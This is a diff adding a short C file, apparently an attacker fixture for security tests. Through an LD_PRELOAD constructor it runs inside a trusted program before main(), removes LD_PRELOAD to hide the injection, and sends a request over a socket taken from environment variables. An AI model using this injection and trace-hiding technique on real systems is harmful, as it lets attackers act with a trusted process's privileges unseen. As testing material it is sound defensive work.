@@ -1,0 +1,13 @@
+/*
+ * Code of the attacker's in the trusted program, by LD_PRELOAD: asks before main() begins, and leaves no trace of the variable.
+ * What it asks and where is in ATTACK_SOCKET and ATTACK_REQUEST.
+ */
+#include "caller.h"
+
+__attribute__((constructor)) static void ask(void) {
+  unsetenv("LD_PRELOAD");
+  int fd = connect_to(getenv("ATTACK_SOCKET"), SOCK_CLOEXEC);
+  say(fd, getenv("ATTACK_REQUEST"));
+  report(hear(fd));
+  _exit(0);
+}
